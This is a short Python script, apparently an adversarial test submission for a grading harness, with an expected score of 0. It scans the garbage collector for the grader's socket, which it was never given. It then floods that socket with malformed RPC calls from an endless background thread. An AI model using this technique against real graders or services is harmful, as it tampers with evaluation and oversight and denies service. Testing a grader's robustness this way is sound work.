# Calls functions of the grader that it was never handed, for ever.
# points: 0, unwritten
import gc, json, os, socket, struct

wire = next(item for item in gc.get_objects() if type(item) is socket.socket)


def send(text, blobs=b""):
    text = text if isinstance(text, bytes) else json.dumps(text).encode()
    wire.sendall(struct.pack(">II", len(text), len(blobs)) + text + blobs)


import threading


def flood():
    while True:
        for number in (0, 1, 2, -1, None, [], "sigmoid"):
            send({"op": "back", "id": number, "g": number, "args": [], "kwargs": {"d": []}})


threading.Thread(target=flood, daemon=True).start()
